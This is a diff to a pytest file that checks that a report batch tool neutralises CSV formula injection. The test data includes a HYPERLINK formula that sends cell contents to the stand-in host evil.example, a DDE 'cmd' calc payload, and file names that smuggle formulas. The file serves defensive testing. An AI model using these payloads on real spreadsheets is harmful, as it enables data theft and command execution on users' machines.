@@ -12,13 +12,14 @@ from nianbao.batch.runner import run_batch
 
 ROOT = Path(__file__).resolve().parents[2]
 REPORT = ROOT / "tests" / "fixtures" / "reports" / "county_bureau_2023.txt"
-EVIL_TITLE = '=HYPERLINK("http://evil.example/?d="&C2&D2,"某局")'
+EVIL_TITLE = '=HYPERLINK("http://evil.example/")'  # kept by the agency reader, so it reaches the ranking
 DANGEROUS = tuple("=+-@\t\r\n")
 
 
 @pytest.mark.parametrize("text, safe", [
     ("=1+2", "'=1+2"), ("+1", "'+1"), ("-1+1", "'-1+1"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
-    ("\r=1", "'\r=1"), ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"), ("某局", "某局"), ("a=1", "a=1"),
+    ("\r=1", "'\r=1"), ('=HYPERLINK("http://evil.example/?d="&C2&D2,"某局")',
+                       '\'=HYPERLINK("http://evil.example/?d="&C2&D2,"某局")'), ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"), ("某局", "某局"), ("a=1", "a=1"),
     (-3, -3), (92.5, 92.5), (None, None),
 ])
 def test_owasp_rule(text, safe):
@@ -34,7 +35,9 @@ def test_write_csv_neutralises_every_text_cell(tmp_path):
 @pytest.fixture(scope="module")
 def hostile_batch(tmp_path_factory):
     src = tmp_path_factory.mktemp("hostile_in")
-    (src / "evil.txt").write_text(EVIL_TITLE + REPORT.read_text(encoding="utf-8"), encoding="utf-8")
+    # the agency's name, wherever the report gives it, starts with a formula (title, preamble, signature)
+    evil = REPORT.read_text(encoding="utf-8").replace("青溪县市场监督管理局", EVIL_TITLE + "青溪县市场监督管理局")
+    (src / "evil.txt").write_text(evil, encoding="utf-8")
     (src / "=1+2.txt").write_text("junk", encoding="utf-8")
     (src / "@SUM(1+1)*cmd|' C calc'!A0.txt").write_text("junk", encoding="utf-8")  # same bytes as =1+2.txt
     (src / "-2.txt").write_bytes(b"")
